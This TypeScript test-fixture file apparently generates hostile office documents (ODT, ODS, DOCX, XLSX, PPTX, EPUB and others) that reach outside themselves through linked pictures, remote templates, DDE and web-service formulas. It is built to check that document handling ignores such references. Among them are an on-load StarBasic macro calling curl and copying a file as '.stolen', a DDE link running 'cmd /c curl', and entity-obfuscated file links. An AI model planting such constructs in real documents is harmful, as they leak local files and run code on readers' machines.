import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { Canary, HostileDocument } from './hostile-documents.ts';
import { flatOdf, makeSample, unzip, zip } from './samples.ts';

const relationship = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const odfType = 'application/vnd.oasis.opendocument';
const link = (target: string) => `xlink:href="${target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`;
const targets = ({ text, picture, url }: Canary) => [`file://${picture}`, `${url}/p.png`, `file://${text}`, `${url}/t`];
const each = (make: (target: string, index: number) => string) => (canary: Canary) =>
  targets(canary).map(make).join('');

type Parts = Record<string, string | Uint8Array>;

/** Zips an OpenDocument around a body, with parts of its own. */
function opendocument(kind: string, body: (canary: Canary) => string, added: (canary: Canary) => Parts = () => ({})) {
  return (path: string, canary: Canary) => {
    const parts = added(canary);
    const entries = ['content.xml', ...Object.keys(parts)].map(
      (name) => `<manifest:file-entry manifest:full-path="${name}" manifest:media-type=""/>`,
    );
    const manifest = `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="${odfType}.${kind}"/>${entries.join('')}</manifest:manifest>`;
    const content = flatOdf(kind, body(canary))
      .replace('<office:document ', '<office:document-content ')
      .replace('</office:document>', '</office:document-content>')
      .replace(/ office:mimetype="[^"]*"/, '');
    return zip(path, {
      mimetype: `${odfType}.${kind}`,
      'content.xml': content,
      ...parts,
      'META-INF/manifest.xml': manifest,
    });
  };
}

/** Changes parts of an ordinary Office file; a part that it does not have begins empty. */
function changed(format: string, changes: Record<string, (part: string, canary: Canary) => string>) {
  return async (path: string, canary: Canary) => {
    const parts: Parts = await unzip(await makeSample(format, join(path, '..')));
    for (const [name, change] of Object.entries(changes)) parts[name] = change(String(parts[name] ?? ''), canary);
    return zip(path, parts);
  };
}

const relate = (relations: (canary: Canary) => [id: string, type: string, target: string][]) => {
  return (part: string, canary: Canary) => {
    const added = relations(canary).map(
      ([id, type, target]) =>
        `<Relationship Id="${id}" Type="${relationship}/${type}" Target="${target}" TargetMode="External"/>`,
    );
    const empty = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`;
    return (part || empty).replace('</Relationships>', `${added.join('')}</Relationships>`);
  };
};

const frame = (inner: string) =>
  `<draw:frame text:anchor-type="as-char" svg:width="3cm" svg:height="3cm">${inner}</draw:frame>`;
const vector = each(
  (target) => `<image xlink:href="${target}" href="${target}" width="50" height="50"/><use xlink:href="${target}#a"/>`,
);
const basic = ({ text, url }: Canary) =>
  `Sub Main&#10;Shell(&quot;curl ${url}/macro&quot;)&#10;FileCopy &quot;${text}&quot;, &quot;${text}.stolen&quot;&#10;End Sub`;
const library = 'xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"';
const listener = `<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:language="ooo:script" script:event-name="dom:load" ${link('vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document')}/></office:event-listeners></office:scripts>`;

/** Zipped documents that point outside themselves, by every means that Office's and OpenDocument's packages have. */
export const hostilePackages: HostileDocument[] = [
  {
    name: 'a text with linked pictures, objects, frames and sections',
    format: 'odt',
    make: opendocument(
      'text',
      (canary) =>
        `<office:text>${each((target, index) => `<text:p>${frame(`<draw:image ${link(target)}/>`)}${frame(`<draw:object ${link(target)}/>`)}${frame(`<draw:floating-frame ${link(target)}/>`)}</text:p><text:section text:name="s${index}"><text:section-source ${link(target)}/><text:p>old</text:p></text:section>`)(canary)}<text:p>Body</text:p></office:text>`,
    ),
  },
  {
    name: 'a text with a vector picture that names others',
    format: 'odt',
    make: opendocument(
      'text',
      () => `<office:text><text:p>${frame(`<draw:image ${link('Pictures/a.svg')}/>`)}Body</text:p></office:text>`,
      (canary) => ({
        'Pictures/a.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><style>@import url(${canary.url}/style.css);</style>${vector(canary)}</svg>`,
      }),
    ),
  },
  {
    name: 'a text with a macro on opening',
    format: 'odt',
    make: opendocument(
      'text',
      () => `<office:text><text:p>Body</text:p></office:text>`,
      (canary) => ({
        'Basic/script-lc.xml': `<?xml version="1.0"?><library:libraries ${library}><library:library library:name="Standard" library:link="false"/></library:libraries>`,
        'Basic/Standard/script-lb.xml': `<?xml version="1.0"?><library:library ${library} library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>`,
        'Basic/Standard/M.xml': `<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">${basic(canary)}</script:module>`,
        'settings.xml': flatOdf('text', '', listener)
          .replace('<office:document ', '<office:document-settings ')
          .replace(/<office:body><\/office:body><\/office:document>/, '</office:document-settings>'),
      }),
    ),
  },
  {
    name: 'a sheet with linked tables, services and DDE',
    format: 'ods',
    make: opendocument('spreadsheet', ({ text, url }) => {
      const formulas = [
        `of:=WEBSERVICE(&quot;${url}/service&quot;)`,
        `of:='file://${text}'#$Sheet1.A1`,
        `of:=DDE(&quot;soffice&quot;;&quot;${text}&quot;;&quot;A1&quot;)`,
      ];
      const cells = formulas.map(
        (formula) =>
          `<table:table-cell table:formula="${formula}" office:value-type="string"><text:p>x</text:p></table:table-cell>`,
      );
      return `<office:spreadsheet><table:table table:name="L"><table:table-source ${link(`file://${text}`)} table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1" table:mode="copy-all"/><table:table-row>${cells.join('')}</table:table-row></table:table></office:spreadsheet>`;
    }),
  },
  {
    name: 'slides with linked pictures and sounds',
    format: 'odp',
    make: opendocument(
      'presentation',
      (canary) =>
        `<office:presentation><draw:page draw:name="p">${each((target) => `${frame(`<draw:image ${link(target)}/>`)}${frame(`<draw:plugin ${link(target)}/>`)}`)(canary)}${frame('<draw:text-box><text:p>Body</text:p></draw:text-box>')}</draw:page></office:presentation>`,
    ),
  },
  {
    name: 'a drawing with linked pictures',
    format: 'odg',
    make: opendocument(
      'graphics',
      (canary) =>
        `<office:drawing><draw:page draw:name="p">${each((target) => frame(`<draw:image ${link(target)}/>`))(canary)}${frame('<draw:text-box><text:p>Body</text:p></draw:text-box>')}</draw:page></office:drawing>`,
    ),
  },
  {
    name: 'a docx with a remote template in its settings',
    format: 'docx',
    make: changed('docx', {
      'word/_rels/settings.xml.rels': relate(({ text, url }) => [
        ['evil1', 'attachedTemplate', `${url}/template.dotm`],
        ['evil2', 'attachedTemplate', `file://${text}`],
      ]),
      'word/settings.xml': (part) =>
        part.replace(/(<w:settings[^>]*>)/, `$1<w:attachedTemplate xmlns:r="${relationship}" r:id="evil1"/>`),
    }),
  },
  {
    name: 'an xlsx with a linked workbook, DDE and a data connection',
    format: 'xlsx',
    make: changed('xlsx', {
      '[Content_Types].xml': (part) =>
        part.replace(
          '</Types>',
          ['1', '2']
            .map(
              (number) =>
                `<Override PartName="/xl/externalLinks/externalLink${number}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>`,
            )
            .join('') +
            '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
        ),
      'xl/_rels/workbook.xml.rels': (part) =>
        part.replace(
          '</Relationships>',
          `<Relationship Id="rE1" Type="${relationship}/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rE2" Type="${relationship}/externalLink" Target="externalLinks/externalLink2.xml"/><Relationship Id="rC" Type="${relationship}/connections" Target="connections.xml"/></Relationships>`,
        ),
      'xl/workbook.xml': (part) =>
        part.replace(
          '</workbook>',
          '<externalReferences><externalReference r:id="rE1"/><externalReference r:id="rE2"/></externalReferences></workbook>',
        ),
      'xl/externalLinks/externalLink1.xml': () =>
        `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="${relationship}" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': relate(({ text }) => [
        ['rId1', 'externalLinkPath', `file://${text}`],
      ]),
      'xl/externalLinks/externalLink2.xml': (_, { url }) =>
        `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c curl ${url}/dde"><ddeItems><ddeItem name="A0" ole="1" advise="1"/></ddeItems></ddeLink></externalLink>`,
      'xl/connections.xml': (_, { url }) =>
        `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="w" type="4" refreshedVersion="6" refreshOnLoad="1"><webPr sourceData="1" url="${url}/connection"/></connection></connections>`,
      'xl/worksheets/sheet1.xml': (part, { url }) =>
        part.replace(
          '<sheetData>',
          `<sheetData><row r="50"><c r="A50" t="str"><f>[1]Sheet1!A1</f><v>x</v></c><c r="B50" t="str"><f>_xlfn.WEBSERVICE("${url}/x")</f></c><c r="C50" t="str"><f>[2]!'A0'</f></c></row>`,
        ),
    }),
  },
  {
    name: 'a pptx with a linked picture and film',
    format: 'pptx',
    make: changed('pptx', {
      'ppt/slides/_rels/slide1.xml.rels': relate(({ picture, text, url }) => [
        ['evil1', 'image', `file://${picture}`],
        ['evil2', 'image', `${url}/p.png`],
        ['evil3', 'video', `file://${text}`],
        ['evil4', 'oleObject', `${url}/object.xlsx`],
      ]),
      'ppt/slides/slide1.xml': (part) =>
        part.replace(
          '</p:spTree>',
          `${['evil1', 'evil2']
            .map(
              (id, index) =>
                `<p:pic><p:nvPicPr><p:cNvPr id="${90 + index}" name="p"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="evil3" xmlns:r="${relationship}"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="${id}" xmlns:r="${relationship}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1000000" cy="1000000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>`,
            )
            .join('')}</p:spTree>`,
        ),
    }),
  },
  {
    name: 'a pptx whose picture is called a link, by other spellings',
    format: 'pptx',
    make: changed('pptx', {
      'ppt/slides/_rels/slide1.xml.rels': (part, canary) =>
        relate(({ picture, url }) => [
          ['evil1', 'hyperlink', `${url}/p.png`],
          ['evil2', 'hyperlink', `file://${picture}`],
          ['evil3', 'image', `file://${picture}`],
        ])(part, canary)
          .replaceAll('"file:', '"&#x66;ile:')
          .replaceAll('"External"', "'Ext&#101;rnal'"),
      'ppt/slides/slide1.xml': (part) =>
        part.replace(
          '</p:spTree>',
          `${['evil1', 'evil2', 'evil3']
            .map(
              (id, index) =>
                `<p:pic><p:nvPicPr><p:cNvPr id="${90 + index}" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="${id}" r:embed="${id}" xmlns:r="${relationship}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1000000" cy="1000000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>`,
            )
            .join('')}</p:spTree>`,
        ),
    }),
  },
  {
    name: 'flat text with a vector picture inside that names others',
    format: 'fodt',
    make: (path, canary) => {
      const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">${vector(canary)}</svg>`;
      const pictures = [Buffer.from(drawing), gzipSync(drawing), Buffer.from(`\ufeff${drawing}`, 'utf16le')].map(
        (bytes) =>
          frame(`<draw:image><office:binary-data>${bytes.toString('base64')}</office:binary-data></draw:image>`),
      );
      return writeFile(path, flatOdf('text', `<office:text><text:p>${pictures.join('')}Body</text:p></office:text>`));
    },
  },
  {
    name: 'a book with remote style sheets and pictures',
    format: 'epub',
    make: changed('epub', {
      'EPUB/text/ch001.xhtml': (part, canary) =>
        part.replace(
          '<body',
          `${each((target) => `<link rel="stylesheet" href="${target}"/><img src="${target}" alt=""/>`)(canary)}<body`,
        ),
    }),
  },
];
